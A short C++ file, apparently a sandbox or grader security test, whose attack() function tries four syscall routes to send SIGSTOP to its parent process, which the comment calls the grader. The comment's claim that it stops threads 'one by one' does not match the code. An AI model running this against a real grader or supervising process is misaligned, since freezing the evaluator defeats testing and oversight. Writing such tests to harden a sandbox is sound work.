// Stops the grader's threads one by one, and queues signals to it.
#include <sys/syscall.h>
#include <csignal>
#include <unistd.h>
bool attack() {
  const pid_t parent = getppid();
  siginfo_t information{};
  information.si_code = SI_QUEUE;
  return syscall(SYS_tgkill, parent, parent, SIGSTOP) == 0 || syscall(SYS_tkill, parent, SIGSTOP) == 0 ||
         syscall(SYS_rt_sigqueueinfo, parent, SIGSTOP, &information) == 0 ||
         syscall(SYS_pidfd_send_signal, syscall(SYS_pidfd_open, parent, 0), SIGSTOP, nullptr, 0) == 0;
}
